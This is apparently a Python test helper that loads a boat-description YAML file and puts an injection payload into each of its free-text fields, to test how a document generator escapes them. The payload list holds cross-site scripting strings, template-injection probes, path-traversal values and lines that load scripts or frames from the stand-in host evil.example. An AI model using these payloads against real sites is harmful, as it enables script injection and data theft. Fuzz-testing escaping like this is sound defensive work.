"""Words that would like to be more than words, and how they are put into every text that a boat's files hold."""

import yaml

from generator.reading.block import Block
from generator.reading.fields import Many, Named, One, Plain, Text, Texts
from generator.vessel.vessel import Vessel

HOST = "evil.example"
PAYLOADS = [
    f"<script src=//{HOST}/a.js></script>", "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
    f'"><img src=x onerror=alert(1) data-x="//{HOST}">', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="', f"<img src=//{HOST}/a.png>",
    f"</title></head><body onload=alert(1)><p>{HOST}", f"<svg/onload=alert(1)><use href=//{HOST}/a.svg#x>", "<svg><script>alert(1)</script></svg>",
    f"</text></svg><image href='//{HOST}/a.png'/>", f"<svg><foreignObject><iframe src=//{HOST}>", "<math><mi xlink:href='javascript:alert(1)'>x",
    f"<iframe src=//{HOST}></iframe>", f"<object data=//{HOST}/a.swf></object>", f"<embed src=//{HOST}>", f"<form action=//{HOST}><button>x</button></form>",
    f"<base href=//{HOST}/>", f"<meta http-equiv=refresh content='0;url=//{HOST}'>", f"<link rel=stylesheet href=//{HOST}/a.css>",
    f"<style>@import '//{HOST}/a.css';</style>", f"x;background:url(//{HOST}/a.png)", f"</style><img src=//{HOST}/b.png>", "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[", f"![]( //{HOST}/a.png)", f'![a](https://{HOST}/a.png "t")', f"![a][r]\n\n[r]: https://{HOST}/a.png",
    f"[tap](https://{HOST}/a)", "[tap](javascript:alert(1))", "[tap](JaVaScRiPt&colon;alert(1))", "[tap](data:text/html;base64,PHNjcmlwdD4=)",
    "[tap](vbscript:x)", "[tap](file:///etc/passwd)", f"[![a](data:image/png;base64,AAAA)](//{HOST})", f"<https://{HOST}/a>", "<javascript:alert(1)>",
    '[tap](tel:112 "" onclick=alert(1))', f"[tap][r2]\n\n[r2]: <//{HOST}>", "# Heading\n\n## Under it\n\n# Another", "Heading\n=======\n\nUnder\n-----",
    "###### six\n\n# one", '```" onclick=alert(1)\n<b>x</b>\n```', "`<img src=x onerror=alert(1)>`", "> <script>alert(1)</script>", "1. <b>x</b>\n2. y",
    "{{ 7 * 7 }}{{ self.__init__.__globals__ }}", "{% for x in y %}", "{# x #}", "${7*7} #{7*7} <%= 7*7 %>", "{boat} {muster-place}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&#x202e;txt&#x200b;&#0;", "\u202etxt\u2066x", "a\u0000b\u0007\u001b[31m",
    "\\x3cscript\\x3ealert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<<img src=x>>", "<a href=javascript:alert(1)>x</a>",
    "../../../../etc/x", "CON", "a/b\\c:d*e?f|g", "url(javascript:alert(1))", "expression(alert(1))", "W" * 55, "W.W/" * 13,
]  # fmt: skip
INVISIBLE = set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200e\u200f\ufeff\x00\x07\x1b")
KEPT = ("based-on", "base", "photo", "mark")  # paths: attacked in test_confined.py


def texts(kind: type[Block], value, under=""):
    """(name of block and key, container, key) of every free text of a file."""
    if isinstance(value, str) and kind.shorthand:
        return
    for key, each in list(value.items()):
        field = kind.fields.get(key)
        if isinstance(field, One) and isinstance(each, dict):
            yield from texts(field.block, each)
        elif isinstance(field, Many):
            for item in each if isinstance(each, list) else ():
                yield from texts(field.block, item)
        elif isinstance(field, Named):
            yield from _named(field, each)
        elif isinstance(field, Texts) and not field.choices:
            yield from (
                (f"{kind.__name__}.{key}", each, at) for at in range(len(each)) if isinstance(each, list)
            )
        elif isinstance(each, dict) and "value" not in each:  # several things in one entry, by their names
            value[key], value["quantity"] = list(each), "1"
            yield from ((f"{kind.__name__}.{key}", value[key], at) for at in range(len(each)))
        elif isinstance(field, (Text, Plain)) and key not in KEPT:
            yield (
                (f"{kind.__name__}.{key}", each, "value")
                if isinstance(each, dict)
                else (f"{kind.__name__}.{key}", value, key)
            )


def _named(field, value):
    for each in value.values():
        if isinstance(field.inner, Named):
            yield from _named(field.inner, each)
        elif isinstance(field.inner, type) and isinstance(each, dict):
            yield from texts(field.inner, each)


def attacked(text: str, turn: int, kind: type[Block] = Vessel) -> tuple[str, int]:
    """A file with a payload in every text: in the next turn each has another. How many texts have one is told.

    What is named in two places is replaced in both, so that roles and spaces are still found.
    """
    data = yaml.load(text, yaml.BaseLoader)
    _complete(kind, data, set())
    found = list(texts(kind, data))
    new: dict[str, str] = {}
    for number, (_, holder, key) in enumerate(found):
        old = holder[key]
        if isinstance(old, str) and old not in new:
            new[old] = f"{PAYLOADS[(number + turn) % len(PAYLOADS)]} {len(new)}"
    _replace(data, new, {(id(holder), key) for _, holder, key in found})
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), len(found)


def _replace(value, new, wanted):
    items = value.items() if isinstance(value, dict) else enumerate(value)
    for key, each in list(items):
        if isinstance(each, (dict, list)):
            _replace(each, new, wanted)
        elif (id(value), key) in wanted:
            value[key] = new[each]


def _complete(kind, value, seen):
    """Adds each text that no block of its kind in the file has, to the first one; a block that is not there is begun."""
    first = kind not in seen
    seen.add(kind)
    for key, field in kind.fields.items():
        if isinstance(field, (One, Many)):
            inner = value.get(key)
            if inner is None and first and field.block not in seen and not field.block.shorthand:
                value[key] = inner = {} if isinstance(field, One) else [{}]
            for each in inner if isinstance(inner, list) else [inner]:
                if isinstance(each, dict):
                    _complete(field.block, each, seen)
        elif first and key not in value and is_free(field):
            value[key] = ["text"] if isinstance(field, Texts) else "text"


def is_free(field):
    """Whether a key takes any words."""
    free = isinstance(field, (Text, Plain)) or (isinstance(field, Texts) and not field.choices)
    return free and field.key not in KEPT


def fields_attacked(text: str, kind: type[Block] = Vessel) -> set[str]:
    """The keys that have a payload in such a file."""
    data = yaml.load(text, yaml.BaseLoader)
    _complete(kind, data, set())
    return {name for name, *_ in texts(kind, data)}


def all_texts(kind: type[Block], seen: frozenset[type[Block]] = frozenset()) -> set[str]:
    """Every free text that a file may hold."""
    found = set()
    for key, field in kind.fields.items():
        inner = field
        while isinstance(inner, Named):
            inner = inner.inner
        block = inner if isinstance(inner, type) else getattr(inner, "block", None)
        if block is not None and block not in seen:
            found |= all_texts(block, seen | {block})
        elif is_free(field):
            found.add(f"{kind.__name__}.{key}")
    return found
